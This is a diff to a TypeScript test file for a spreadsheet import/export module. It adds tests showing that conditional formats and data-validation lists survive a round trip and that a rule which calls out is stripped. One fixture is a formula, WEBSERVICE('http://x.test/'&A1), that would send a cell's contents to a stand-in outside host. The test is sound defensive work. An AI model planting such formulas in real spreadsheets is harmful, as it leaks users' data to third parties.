@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import * as xlsx from '@e965/xlsx'
 import { strToU8, zipSync } from 'fflate'
-import { writeXlsx } from 'hucre/xlsx'
+import { type DataValidation, writeXlsx } from 'hucre/xlsx'
 import { afterAll, describe, expect, test } from 'vitest'
 import { emptySheet, MOST_BOOK_CELLS, type SheetBook } from '#contract/sheet-book.ts'
 import { Refusal } from '#server/kernel/errors.ts'
@@ -246,3 +246,37 @@ async function withSheet(sheet: string): Promise<Uint8Array> {
   const parts = unzipSync(await writeXlsx({ sheets: [{ name: 'Sheet1', rows: [[1]] }] }))
   return zipSync({ ...parts, 'xl/worksheets/sheet1.xml': strToU8(sheet) })
 }
+
+describe('what the grid does not draw', () => {
+  const rule = { type: 'cellIs', priority: 1, operator: 'greaterThan', formula: '100', range: 'B2:B9' } as const
+  const list: DataValidation = { type: 'list', values: ['是', '否'], range: 'C2:C9' }
+  const file = (formula: string) =>
+    writeXlsx({
+      sheets: [
+        {
+          name: '往来',
+          rows: [['客户', '余额', '回函']],
+          conditionalRules: [{ ...rule, formula, style: { font: { bold: true } } }],
+          dataValidations: [list],
+        },
+      ],
+    })
+
+  test('conditional formats and checks of entries are named, and stand in the file that is downloaded', async () => {
+    const { book, notes } = await reading(await file('100'))
+    expect(notes).toContainEqual({ kind: 'conditional', sheet: '往来', cell: '', text: '1' })
+    expect(notes).toContainEqual({ kind: 'validation', sheet: '往来', cell: '', text: '1' })
+    const again = await reading(await writeSheetBook(book))
+    expect(again.book.sheets[0]?.rules).toMatchObject([{ ...rule, style: { bold: true } }])
+    expect(again.book.sheets[0]?.validations).toMatchObject([list])
+  })
+
+  test('a rule that calls out is left out, on the way in and on the way out', async () => {
+    const out = 'WEBSERVICE("http://x.test/"&A1)'
+    const { book } = await reading(await file(out))
+    expect(book.sheets[0]?.rules).toBeUndefined()
+    const sheets = book.sheets.map((sheet) => Object.assign(sheet, { rules: [{ ...rule, formula: out }] }))
+    const again = await reading(await writeSheetBook({ ...book, sheets }))
+    expect(again.book.sheets[0]?.rules).toBeUndefined()
+  })
+})
